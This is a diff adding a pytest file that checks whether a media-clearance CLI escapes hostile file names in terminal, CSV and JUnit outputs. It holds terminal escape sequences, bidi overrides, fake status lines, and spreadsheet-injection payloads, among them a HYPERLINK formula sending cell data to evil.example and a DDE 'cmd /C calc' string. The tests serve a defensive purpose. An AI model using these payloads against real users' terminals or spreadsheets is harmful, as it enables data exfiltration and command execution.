@@ -1,0 +1,241 @@
+"""Hostile names and values in the text outputs: terminal tables, CSV cells, JUnit XML.
+
+File names and sidecar values come from artists' files; a terminal acts on escape sequences
+and bidi controls, XML forbids some characters, a spreadsheet runs formulas. Real files in
+``tmp_path``, the real CLI through subprocess.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import random
+import xml.etree.ElementTree as ET
+from pathlib import Path
+
+import pytest
+
+from clearance._display import shown, xml_safe
+from clearance.model import Outcome
+from clearance.report import Filters, build_report
+from clearance.report_text import render_junit
+from conftest import run_cli
+from test_lineage import single, write_config
+from test_report import write_show_log
+
+ESC_NAME = "comp/sh010_\x1b[2J\x1b[31mclean.exr"
+RTL_NAME = "comp/sh020_\u202egnp.exe.exr"
+NL_NAME = "comp/sh040_line1\nFAKE: 0 open findings.exr"
+EVIL_TOOL = "evil\x1b[2J\x1b]0;pwned\x07tool\nPASS    fake"
+
+#: what must never reach a terminal raw
+RAW = ("\x1b", "\x07", "\u202e", "\r")
+
+
+def hostile_show(root: Path) -> Path:
+    """A comp stage whose file names and sidecar values hold escapes, an RTL override and
+    newlines; scanned once, so its audit log and state store exist."""
+    write_config(root, [{"name": "comp", "paths": ["comp/"]}])
+    for rel in (ESC_NAME, RTL_NAME, NL_NAME):
+        single(root, rel)
+        doc = {
+            "provenance": 1,
+            "asset": rel.rsplit("/", 1)[-1],
+            "production": "SHOW01",
+            "shot": "sh\x1b[2J010",
+            "generated": True,
+            "source_type": "trainedAlgorithmicMedia",
+            "steps": [{"tool": EVIL_TOOL, "inputs": []}],
+            "output": {"use": "final", "on_screen": "background", "subject": "incidental"},
+        }
+        (root / f"{rel}.genai.json").write_text(json.dumps(doc), encoding="utf-8")
+    return root
+
+
+def assert_neutralised(text: str) -> None:
+    for char in RAW:
+        assert char not in text, f"{char!r} printed raw"
+    lines = text.splitlines()
+    assert not [line for line in lines if line.startswith(("FAKE", "PASS    fake"))], lines
+
+
+def test_shown_escapes_controls_bidi_and_line_breaks_only() -> None:
+    assert shown("comp/sh010_v001.####.exr") == "comp/sh010_v001.####.exr"
+    assert shown("café – naïve 日本") == "café – naïve 日本"
+    assert shown("a\x1b[2Jb\tc\nd\re\x7f\x85") == "a\\x1b[2Jb\\tc\\nd\\re\\x7f\\x85"
+    assert shown("x\u202ey\u2066z\u200f\u061c\u2028") == "x\\u202ey\\u2066z\\u200f\\u061c\\u2028"
+    assert shown(None) == "" and shown(1001) == "1001"
+
+
+def test_scan_and_check_tables_show_hostile_names_and_values_escaped(tmp_path: Path) -> None:
+    root = hostile_show(tmp_path)
+    result = run_cli("scan", str(root))
+    assert result.code == 1, result.stderr
+    assert_neutralised(result.stdout)
+    assert "sh010_\\x1b[2J\\x1b[31mclean.exr" in result.stdout
+    assert "sh020_\\u202egnp.exe.exr" in result.stdout
+    assert "sh040_line1\\nFAKE: 0 open findings.exr" in result.stdout
+    assert "evil\\x1b[2J\\x1b]0;pwned\\x07tool\\nPASS    fake" in result.stdout
+    checked = run_cli("check", str(root / ESC_NAME), str(root / f"{NL_NAME}.genai.json"))
+    assert checked.code == 1, checked.stderr
+    assert_neutralised(checked.stdout)
+    assert_neutralised(checked.stderr)  # "… is a sidecar: checking the asset it describes"
+    assert "sh040_line1\\nFAKE: 0 open findings.exr.genai.json is a sidecar" in checked.stderr
+    tree = run_cli("lineage", ESC_NAME, "--config", str(root / "clearance.yaml"))
+    assert tree.code == 0, tree.stderr
+    assert_neutralised(tree.stdout)
+    assert tree.stdout.startswith("comp/sh010_\\x1b[2J\\x1b[31mclean.exr  [comp]")
+
+
+def test_report_table_shows_hostile_names_and_values_escaped(tmp_path: Path) -> None:
+    root = hostile_show(tmp_path)
+    run_cli("scan", str(root))
+    result = run_cli("report", str(root / ".clearance" / "audit.jsonl"))
+    assert result.code == 0, result.stderr
+    assert_neutralised(result.stdout)
+    assert "comp/sh040_line1\\nFAKE: 0 open findings.exr  [approval]" in result.stdout
+    assert "comp/sh020_\\u202egnp.exe.exr" in result.stdout
+    assert "evil\\x1b[2J\\x1b]0;pwned\\x07tool\\nPASS" in result.stdout
+
+
+def test_json_report_keeps_the_values_exact(tmp_path: Path) -> None:
+    root = hostile_show(tmp_path)
+    run_cli("scan", str(root))
+    result = run_cli("report", str(root / ".clearance" / "audit.jsonl"), "-f", "json")
+    assert {a["asset"] for a in result.json()["assets"]} == {ESC_NAME, RTL_NAME, NL_NAME}
+
+
+def hostile_cut(root: Path) -> Path:
+    """An edit of missing media whose timeline, track and clip names are hostile."""
+    otio = pytest.importorskip("opentimelineio")
+    rate = 24
+
+    def clip(name: str) -> object:
+        span = otio.opentime.TimeRange(
+            otio.opentime.RationalTime(0, rate), otio.opentime.RationalTime(24, rate)
+        )
+        return otio.schema.Clip(
+            name=name, media_reference=otio.schema.MissingReference(), source_range=span
+        )
+
+    cut = otio.schema.Timeline(name="cut \x1b[2J\x1b[32mALL CLEAR")
+    track = otio.schema.Track(name="V1\u202e")
+    for name in (
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "sh999 \x1b[2J\x1b[1;1HNo GenAI material on screen.",
+        "sh998\u202eevil",
+        "sh997\nFAKE: 0 open findings",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ):
+        track.append(clip(name))
+    cut.tracks.append(track)
+    path = root / "editorial" / "hostile.otio"
+    path.parent.mkdir(parents=True, exist_ok=True)
+    otio.adapters.write_to_file(cut, str(path))
+    return path
+
+
+def test_timeline_table_shows_hostile_names_escaped(tmp_path: Path) -> None:
+    root = hostile_show(tmp_path)
+    run_cli("scan", str(root))
+    result = run_cli("timeline", str(hostile_cut(root)))
+    assert result.code == 1, result.stderr
+    assert_neutralised(result.stdout)
+    assert 'Timeline "cut \\x1b[2J\\x1b[32mALL CLEAR"' in result.stdout
+    assert "sh997\\nFAKE: 0 open findings" in result.stdout
+    assert "sh998\\u202eevil" in result.stdout and "V1\\u202e" in result.stdout
+
+
+def test_validate_lines_and_error_lines_show_hostile_names_escaped(tmp_path: Path) -> None:
+    root = hostile_show(tmp_path)
+    valid = run_cli("validate", str(root / f"{NL_NAME}.genai.json"))
+    assert valid.code == 0, valid.stdout + valid.stderr
+    assert_neutralised(valid.stdout)
+    assert "sh040_line1\\nFAKE: 0 open findings.exr.genai.json: valid" in valid.stdout
+    missing = run_cli("validate", str(root / "comp" / "gone\x1b]0;pwned\x07\nFAKE: ok.json"))
+    assert missing.code == 2
+    assert_neutralised(missing.stderr)
+    assert "gone\\x1b]0;pwned\\x07\\nFAKE: ok.json: no such file" in missing.stderr
+
+
+def random_text(rng: random.Random, size: int) -> str:
+    """Printable text, controls, XML's forbidden characters, surrogates, anything."""
+    pools = (
+        lambda: chr(rng.randrange(0x20)),
+        lambda: rng.choice("\x7f\x85\ufffe\uffff\u202e\u2028<>&\"'=+-@"),
+        lambda: chr(rng.randrange(0xD800, 0xE000)),
+        lambda: chr(rng.randrange(0x110000)),
+        lambda: chr(rng.randrange(0x20, 0x7F)),
+    )
+    return "".join(rng.choice(pools)() for _ in range(size))
+
+
+def test_xml_safe_leaves_only_what_xml_allows() -> None:
+    rng = random.Random(6)
+    for _ in range(2_000):
+        text = xml_safe(random_text(rng, rng.randrange(1, 40)))
+        assert all(
+            c in "\t\n\r"
+            or 0x20 <= ord(c) < 0xD800
+            or 0xE000 <= ord(c) <= 0xFFFD
+            or ord(c) > 0xFFFF
+            for c in text
+        ), repr(text)
+    assert xml_safe("ok <&> \t\n\r é") == "ok <&> \t\n\r é"
+    assert xml_safe("a\x1b[2J\x00\ufffe") == "a\\x1b[2J\\x00\\ufffe"
+
+
+def test_junit_parses_whatever_the_names_and_messages_hold(tmp_path: Path) -> None:
+    rng = random.Random(11)
+    outcomes = ("notice", "escalate", "approval", "block")
+    show = [
+        (
+            "comp",
+            f"comp/{random_text(rng, 12)}.exr",
+            random_text(rng, 4),
+            [("NFX-00", rng.choice(outcomes), "open", None, random_text(rng, 30))],
+        )
+        for _ in range(200)
+    ]
+    log = write_show_log(tmp_path / "audit.jsonl", show=show)
+    report = build_report([str(log)], Filters())
+    out = io.StringIO()
+    render_junit(report, out, fail_on=Outcome.ESCALATE)
+    root = ET.fromstring(out.getvalue().encode("utf-8"))
+    names = sorted(case.get("name") or "" for case in root.iter("testcase"))
+    assert len(names) == 200
+    assert names == sorted(xml_safe(a.label) for a in report.assets)  # forbidden: escaped
+
+
+def test_junit_report_of_a_hostile_show_is_well_formed_xml(tmp_path: Path) -> None:
+    root = hostile_show(tmp_path)
+    run_cli("scan", str(root))
+    out = tmp_path / "junit.xml"
+    result = run_cli(
+        "report", str(root / ".clearance" / "audit.jsonl"), "-f", "junit", "-o", str(out)
+    )
+    assert result.code == 0, result.stderr
+    cases = {c.get("name"): c for c in ET.parse(out).getroot().iter("testcase")}
+    assert set(cases) == {
+        "comp/sh010_\\x1b[2J\\x1b[31mclean.exr",
+        "comp/sh020_\u202egnp.exe.exr",  # allowed in XML: kept as it is
+        "comp/sh040_line1\nFAKE: 0 open findings.exr",
+    }
+    failure = cases["comp/sh020_\u202egnp.exe.exr"].find("failure")
+    assert failure is not None and "evil\\x1b[2J\\x1b]0;pwned\\x07tool" in (failure.text or "")
+
+
+def test_timeline_csv_guards_formula_cells_as_the_report_csv_does(tmp_path: Path) -> None:
+    root = hostile_show(tmp_path)
+    run_cli("scan", str(root))
+    result = run_cli("timeline", str(hostile_cut(root)), "-f", "csv")
+    assert result.code == 1, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    clips = [row["clip"] for row in rows]
+    assert clips[0] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert clips[4] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert clips[3] == "sh997\nFAKE: 0 open findings"  # quoted by csv: one cell, as it is
+    for row in rows:
+        assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row.values()), row
+    assert rows[0]["record_in"] == "00:00:00:00"  # a value that is no formula is kept
